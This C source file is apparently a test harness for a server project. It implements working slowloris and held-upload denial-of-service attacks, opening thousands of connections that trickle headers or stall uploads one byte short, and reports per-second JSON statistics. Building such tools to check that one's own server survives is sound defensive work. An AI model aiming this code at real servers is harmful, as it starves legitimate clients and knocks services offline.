/* The attacker of the security tests: many connections from one local address that the
 * server must survive without starving other clients. One epoll loop, no threads.
 *   alvd_hostile slowloris HOST PORT FROM CONNECTIONS SECONDS RATE
 *       each connection sends a request line and a header, then one more header line
 *       every 2 s, never finishing; closed ones reconnect after a second
 *   alvd_hostile uploads HOST PORT FROM CONNECTIONS SECONDS RATE BYTES PATH
 *       each connection POSTs a JSON body of BYTES to PATH as fast as the server reads
 *       it, stops one byte short and holds; closed ones reconnect after a second
 * RATE caps new connections per second (reconnects included). FROM is the local
 * address to connect from (any 127.x.y.z on Linux). Prints one JSON line a second:
 * {"t","open","opened","held","closed","refused","sent_mib","answers":{status:n}}, and a
 * last one with "final":true. */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define HOSTILE_TRICKLE_MS 2000
#define HOSTILE_RECONNECT_MS 1000
#define HOSTILE_STATUS_MAX 600

/* SIGTERM ends the attack early (the final report is still printed). */
static volatile sig_atomic_t hostile_stop;
static void hostile_on_term(int signal_number) { (void)signal_number; hostile_stop = 1; }

typedef enum slot_state { SLOT_IDLE, SLOT_CONNECTING, SLOT_SENDING, SLOT_HELD } slot_state;

typedef struct slot {
    int fd;
    slot_state state;
    double due_ms;          /* IDLE: reconnect at; HELD (slowloris): next trickle at */
    size_t header_sent;     /* bytes of the request head already written */
    unsigned long long body_sent;
    unsigned trickles;
} slot;

typedef struct hostile {
    int slowloris;          /* 1 = slowloris, 0 = held uploads */
    struct sockaddr_in target, from;
    size_t count;
    slot *slots;
    int epoll_fd;
    double rate, tokens, last_refill_ms;
    unsigned long long body_bytes;
    char head[512];
    size_t head_length;
    /* counts */
    unsigned long long opened, closed, refused, sent;
    unsigned long long answers[HOSTILE_STATUS_MAX];
} hostile;

static double hostile_now_ms(void)
{
    struct timespec now;
    clock_gettime(CLOCK_MONOTONIC, &now);
    return (double)now.tv_sec * 1000.0 + (double)now.tv_nsec / 1e6;
}

static long hostile_number(const char *text, long low, long high)
{
    char *end = NULL;
    errno = 0;
    long value = strtol(text, &end, 10);
    if (errno != 0 || end == text || *end != '\0' || value < low || value > high) {
        fprintf(stderr, "bad number: %s\n", text);
        exit(2);
    }
    return value;
}

static void hostile_close(hostile *h, slot *s, double now)
{
    if (s->fd >= 0) {
        epoll_ctl(h->epoll_fd, EPOLL_CTL_DEL, s->fd, NULL);
        close(s->fd);
        h->closed++;
    }
    s->fd = -1;
    s->state = SLOT_IDLE;
    s->due_ms = now + HOSTILE_RECONNECT_MS;
}

static void hostile_connect(hostile *h, slot *s, double now)
{
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
    if (fd < 0) {
        h->refused++;
        s->due_ms = now + HOSTILE_RECONNECT_MS;
        return;
    }
    /* Without this, bind() picks a port unique over every socket of the address, which
     * slows to a crawl with thousands open; connect() picks one per destination. */
    int one = 1;
    setsockopt(fd, IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, &one, sizeof one);
    if (bind(fd, (const struct sockaddr *)&h->from, sizeof h->from) != 0 ||
        (connect(fd, (const struct sockaddr *)&h->target, sizeof h->target) != 0 && errno != EINPROGRESS)) {
        close(fd);
        h->refused++;
        s->due_ms = now + HOSTILE_RECONNECT_MS;
        return;
    }
    struct epoll_event event = {.events = EPOLLIN | EPOLLOUT, .data.ptr = s};
    epoll_ctl(h->epoll_fd, EPOLL_CTL_ADD, fd, &event);
    s->fd = fd;
    s->state = SLOT_CONNECTING;
    s->header_sent = 0;
    s->body_sent = 0;
    s->trickles = 0;
    h->opened++;
}

static void hostile_want(hostile *h, slot *s, unsigned events)
{
    struct epoll_event event = {.events = events, .data.ptr = s};
    epoll_ctl(h->epoll_fd, EPOLL_CTL_MOD, s->fd, &event);
}

/* Write what the slot still has to send; returns -1 when the connection broke. */
static int hostile_send(hostile *h, slot *s, double now)
{
    static char filler[65536];
    if (filler[0] == 0)
        memset(filler, 'A', sizeof filler);
    while (s->header_sent < h->head_length) {
        ssize_t wrote = send(s->fd, h->head + s->header_sent, h->head_length - s->header_sent, MSG_NOSIGNAL);
        if (wrote < 0)
            return errno == EAGAIN ? 0 : -1;
        s->header_sent += (size_t)wrote;
        h->sent += (unsigned long long)wrote;
    }
    if (h->slowloris) {
        s->state = SLOT_HELD;
        s->due_ms = now + HOSTILE_TRICKLE_MS;
        hostile_want(h, s, EPOLLIN);
        return 0;
    }
    /* The body stops one byte short of the declared length, then is held. One chunk per
     * call, so one fast connection does not keep the loop from opening the others. */
    if (s->body_sent + 1 < h->body_bytes) {
        unsigned long long left = h->body_bytes - 1 - s->body_sent;
        size_t chunk = left < sizeof filler ? (size_t)left : sizeof filler;
        ssize_t wrote = send(s->fd, filler, chunk, MSG_NOSIGNAL);
        if (wrote < 0)
            return errno == EAGAIN ? 0 : -1;
        s->body_sent += (unsigned long long)wrote;
        h->sent += (unsigned long long)wrote;
        if (s->body_sent + 1 < h->body_bytes)
            return 0;
    }
    s->state = SLOT_HELD;
    hostile_want(h, s, EPOLLIN);
    return 0;
}

/* The server said something: count the status of an answer, close on EOF. */
static void hostile_read(hostile *h, slot *s, double now)
{
    char buffer[4096];
    for (;;) {
        ssize_t got = recv(s->fd, buffer, sizeof buffer - 1, 0);
        if (got > 0) {
            buffer[got] = '\0';
            int status = 0;
            if (sscanf(buffer, "HTTP/1.%*d %d", &status) == 1 && status > 0 && status < HOSTILE_STATUS_MAX)
                h->answers[status]++;
            continue;
        }
        if (got < 0 && errno == EAGAIN)
            return;
        hostile_close(h, s, now);
        return;
    }
}

static void hostile_trickle(hostile *h, slot *s, double now)
{
    char line[64];
    int length = snprintf(line, sizeof line, "X-Slow-%u: %u\r\n", s->trickles, s->trickles);
    s->trickles++;
    s->due_ms = now + HOSTILE_TRICKLE_MS;
    if (send(s->fd, line, (size_t)length, MSG_NOSIGNAL) < 0 && errno != EAGAIN)
        hostile_close(h, s, now);
    else
        h->sent += (unsigned long long)length;
}

static void hostile_report(const hostile *h, double elapsed_ms, int final)
{
    unsigned long long open = 0, held = 0;
    for (size_t i = 0; i < h->count; i++) {
        open += h->slots[i].fd >= 0;
        held += h->slots[i].state == SLOT_HELD;
    }
    printf("{\"t\":%.1f,\"open\":%llu,\"held\":%llu,\"opened\":%llu,\"closed\":%llu,\"refused\":%llu,"
           "\"sent_mib\":%.1f,\"answers\":{",
           elapsed_ms / 1000.0, open, held, h->opened, h->closed, h->refused, (double)h->sent / 1048576.0);
    int first = 1;
    for (int status = 0; status < HOSTILE_STATUS_MAX; status++) {
        if (h->answers[status] == 0)
            continue;
        printf("%s\"%d\":%llu", first ? "" : ",", status, h->answers[status]);
        first = 0;
    }
    printf("}%s}\n", final ? ",\"final\":true" : "");
    fflush(stdout);
}

static int hostile_address(const char *host, int port, struct sockaddr_in *out)
{
    memset(out, 0, sizeof *out);
    out->sin_family = AF_INET;
    out->sin_port = htons((unsigned short)port);
    return inet_pton(AF_INET, host, &out->sin_addr) == 1 ? 0 : -1;
}

int main(int argc, char **argv)
{
    hostile h;
    memset(&h, 0, sizeof h);
    if (argc < 8 || (strcmp(argv[1], "slowloris") != 0 && strcmp(argv[1], "uploads") != 0) ||
        (strcmp(argv[1], "uploads") == 0 && argc < 10)) {
        fprintf(stderr, "usage: alvd_hostile slowloris HOST PORT FROM CONNECTIONS SECONDS RATE\n"
                        "       alvd_hostile uploads HOST PORT FROM CONNECTIONS SECONDS RATE BYTES PATH\n");
        return 2;
    }
    h.slowloris = strcmp(argv[1], "slowloris") == 0;
    if (hostile_address(argv[2], (int)hostile_number(argv[3], 1, 65535), &h.target) != 0 ||
        hostile_address(argv[4], 0, &h.from) != 0) {
        fprintf(stderr, "bad address\n");
        return 2;
    }
    h.count = (size_t)hostile_number(argv[5], 1, 100000);
    double seconds = (double)hostile_number(argv[6], 1, 3600);
    h.rate = (double)hostile_number(argv[7], 1, 1000000);
    if (h.slowloris) {
        h.head_length = (size_t)snprintf(h.head, sizeof h.head,
                                         "GET /api/health HTTP/1.1\r\nHost: %s\r\nUser-Agent: slowloris\r\n", argv[2]);
    } else {
        h.body_bytes = (unsigned long long)hostile_number(argv[8], 2, 1L << 34);
        h.head_length = (size_t)snprintf(h.head, sizeof h.head,
                                         "POST %s HTTP/1.1\r\nHost: %s\r\nContent-Type: application/json\r\n"
                                         "Content-Length: %llu\r\n\r\n",
                                         argv[9], argv[2], h.body_bytes);
    }
    /* Thousands of sockets: take the hard limit. */
    struct rlimit limit;
    if (getrlimit(RLIMIT_NOFILE, &limit) == 0) {
        limit.rlim_cur = limit.rlim_max;
        setrlimit(RLIMIT_NOFILE, &limit);
        if (limit.rlim_cur < h.count + 16)
            fprintf(stderr, "open-file limit %llu is below %zu connections\n",
                    (unsigned long long)limit.rlim_cur, h.count);
    }
    signal(SIGTERM, hostile_on_term);
    h.slots = calloc(h.count, sizeof *h.slots);
    h.epoll_fd = epoll_create1(EPOLL_CLOEXEC);
    if (h.slots == NULL || h.epoll_fd < 0)
        return 1;
    double start = hostile_now_ms();
    for (size_t i = 0; i < h.count; i++) {
        h.slots[i].fd = -1;
        h.slots[i].due_ms = start;
    }
    h.last_refill_ms = start;
    h.tokens = h.rate / 10.0;
    double next_report = start + 1000.0;
    struct epoll_event events[512];
    size_t cursor = 0;
    for (;;) {
        double now = hostile_now_ms();
        if (now - start >= seconds * 1000.0 || hostile_stop)
            break;
        /* New connections, at most RATE a second, round-robin over idle slots. */
        h.tokens += (now - h.last_refill_ms) * h.rate / 1000.0;
        if (h.tokens > h.rate / 10.0 + 1.0)
            h.tokens = h.rate / 10.0 + 1.0;
        h.last_refill_ms = now;
        for (size_t scanned = 0; scanned < h.count && h.tokens >= 1.0; scanned++) {
            slot *s = &h.slots[cursor];
            cursor = (cursor + 1) % h.count;
            if (s->state == SLOT_IDLE && s->due_ms <= now) {
                hostile_connect(&h, s, now);
                h.tokens -= 1.0;
            }
        }
        if (h.slowloris)
            for (size_t i = 0; i < h.count; i++)
                if (h.slots[i].state == SLOT_HELD && h.slots[i].due_ms <= now)
                    hostile_trickle(&h, &h.slots[i], now);
        int ready = epoll_wait(h.epoll_fd, events, 512, 20);
        now = hostile_now_ms();
        for (int e = 0; e < ready; e++) {
            slot *s = events[e].data.ptr;
            if (s->fd < 0)
                continue;
            if (events[e].events & (EPOLLERR | EPOLLHUP)) {
                if (s->state == SLOT_CONNECTING)
                    h.refused++;
                hostile_read(&h, s, now);
                if (s->fd >= 0)
                    hostile_close(&h, s, now);
                continue;
            }
            if (events[e].events & EPOLLIN) {
                hostile_read(&h, s, now);
                if (s->fd < 0)
                    continue;
            }
            if ((events[e].events & EPOLLOUT) && (s->state == SLOT_CONNECTING || s->state == SLOT_SENDING)) {
                s->state = SLOT_SENDING;
                if (hostile_send(&h, s, now) != 0)
                    hostile_close(&h, s, now);
            }
        }
        if (now >= next_report) {
            hostile_report(&h, now - start, 0);
            next_report += 1000.0;
        }
    }
    hostile_report(&h, hostile_now_ms() - start, 1);
    for (size_t i = 0; i < h.count; i++)
        if (h.slots[i].fd >= 0)
            close(h.slots[i].fd);
    free(h.slots);
    close(h.epoll_fd);
    return 0;
}
